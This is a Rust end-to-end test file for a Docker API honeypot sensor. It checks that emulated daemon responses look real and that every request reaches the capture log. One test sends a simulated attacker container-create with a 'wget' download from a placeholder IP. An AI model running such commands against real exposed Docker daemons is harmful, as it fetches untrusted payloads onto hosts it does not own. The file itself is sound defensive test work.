//! End-to-end HTTP tests against the sensor surface.
//!
//! Binds an ephemeral port, speaks raw HTTP/1.1 the way scanner tooling
//! does, and checks wire-level responses plus the capture trail.

use std::net::SocketAddr;
use std::sync::Arc;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::broadcast;

use docktrap_core::capture::{MemoryRequestLog, RequestLog};
use docktrap_daemon::server::{SensorState, serve};
use docktrap_emulation::{EmulationConfig, EmulationResponder, ResourceStore};

struct TestSensor {
    addr: SocketAddr,
    log: Arc<MemoryRequestLog>,
    _shutdown: broadcast::Sender<()>,
}

async fn start_sensor() -> TestSensor {
    let store = ResourceStore::new("e2e-sensor");
    store.seed_defaults();
    let config = EmulationConfig {
        sensor_id: "e2e-sensor".to_owned(),
        pull_delay_ms: 0,
        ..Default::default()
    };
    let responder = Arc::new(EmulationResponder::new(store, config));
    let log = Arc::new(MemoryRequestLog::new());

    let state = SensorState {
        responder,
        log: Arc::clone(&log) as Arc<dyn RequestLog>,
        sensor_id: "e2e-sensor".to_owned(),
    };

    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let (shutdown_tx, shutdown_rx) = broadcast::channel(1);
    tokio::spawn(serve(listener, state, shutdown_rx));

    TestSensor {
        addr,
        log,
        _shutdown: shutdown_tx,
    }
}

async fn raw_request(addr: SocketAddr, raw: String) -> String {
    let mut stream = TcpStream::connect(addr).await.unwrap();
    stream.write_all(raw.as_bytes()).await.unwrap();
    let mut response = Vec::new();
    stream.read_to_end(&mut response).await.unwrap();
    String::from_utf8_lossy(&response).into_owned()
}

async fn get(addr: SocketAddr, path: &str) -> String {
    raw_request(
        addr,
        format!("GET {path} HTTP/1.1\r\nHost: sensor\r\nConnection: close\r\n\r\n"),
    )
    .await
}

async fn post_json(addr: SocketAddr, path: &str, body: &str) -> String {
    raw_request(
        addr,
        format!(
            "POST {path} HTTP/1.1\r\nHost: sensor\r\nConnection: close\r\n\
             Content-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        ),
    )
    .await
}

#[tokio::test]
async fn ping_looks_like_a_real_daemon() {
    let sensor = start_sensor().await;
    let response = get(sensor.addr, "/_ping").await;

    assert!(response.starts_with("HTTP/1.1 200"));
    assert!(response.contains("OK"));
    // 모방 헤더가 실려야 합니다.
    assert!(response.contains("Api-Version"));
    assert!(response.contains("Docker/20.10.14"));
}

#[tokio::test]
async fn version_reports_emulated_engine() {
    let sensor = start_sensor().await;
    let response = get(sensor.addr, "/v1.41/version").await;
    assert!(response.starts_with("HTTP/1.1 200"));
    assert!(response.contains("\"Version\":\"20.10.14\""));
    assert!(response.contains("\"MinAPIVersion\":\"1.12\""));
}

#[tokio::test]
async fn create_on_unknown_image_returns_docker_404() {
    let sensor = start_sensor().await;
    let response = post_json(
        sensor.addr,
        "/v1.24/containers/create",
        r#"{"Image":"nginx","Cmd":["id"]}"#,
    )
    .await;
    assert!(response.starts_with("HTTP/1.1 404"));
    assert!(response.contains("No such image: ['nginx:latest']"));
}

#[tokio::test]
async fn pull_then_create_succeeds_and_streams_progress() {
    let sensor = start_sensor().await;

    let pull = raw_request(
        sensor.addr,
        "POST /v1.24/images/create?fromImage=busybox&tag=latest HTTP/1.1\r\n\
         Host: sensor\r\nConnection: close\r\n\r\n"
            .to_owned(),
    )
    .await;
    assert!(pull.starts_with("HTTP/1.1 200"));
    assert!(pull.contains("Pulling from library/busybox"));
    assert!(pull.contains("Pull complete"));
    assert!(pull.contains("Digest: sha256:"));

    let create = post_json(
        sensor.addr,
        "/v1.24/containers/create",
        r#"{"Image":"busybox","Cmd":["wget","http://203.0.113.1/x"]}"#,
    )
    .await;
    assert!(create.starts_with("HTTP/1.1 201"));
    assert!(create.contains("\"Warnings\":[]"));
}

#[tokio::test]
async fn every_request_lands_in_the_capture_log() {
    let sensor = start_sensor().await;

    get(sensor.addr, "/_ping").await;
    get(sensor.addr, "/v1.41/containers/json").await;
    post_json(sensor.addr, "/v1.24/containers/create", r#"{"Image":"x"}"#).await;

    assert_eq!(sensor.log.len(), 3);
    let records = sensor.log.find_from_seq(0).unwrap();
    assert_eq!(records[0].path, "/_ping");
    assert_eq!(records[1].path, "/v1.41/containers/json");
    assert_eq!(records[2].path, "/v1.24/containers/create");
    assert_eq!(records[2].method, "POST");
    assert_eq!(
        records[2].body_json.as_ref().unwrap()["Image"],
        serde_json::json!("x")
    );
    assert!(records.iter().all(|r| r.sensor_id == "e2e-sensor"));
}

#[tokio::test]
async fn query_args_are_decoded_for_the_classifier() {
    let sensor = start_sensor().await;

    raw_request(
        sensor.addr,
        "HEAD /v1.41/containers/2628/archive?path=%2Ftmp%2F2.txt HTTP/1.1\r\n\
         Host: sensor\r\nConnection: close\r\n\r\n"
            .to_owned(),
    )
    .await;

    let records = sensor.log.find_from_seq(0).unwrap();
    assert_eq!(records.len(), 1);
    assert_eq!(records[0].arg("path"), Some("/tmp/2.txt"));
}

#[tokio::test]
async fn unknown_paths_get_page_not_found() {
    let sensor = start_sensor().await;
    let response = get(sensor.addr, "/swarm/init").await;
    assert!(response.starts_with("HTTP/1.1 404"));
    assert!(response.contains("page not found"));
}
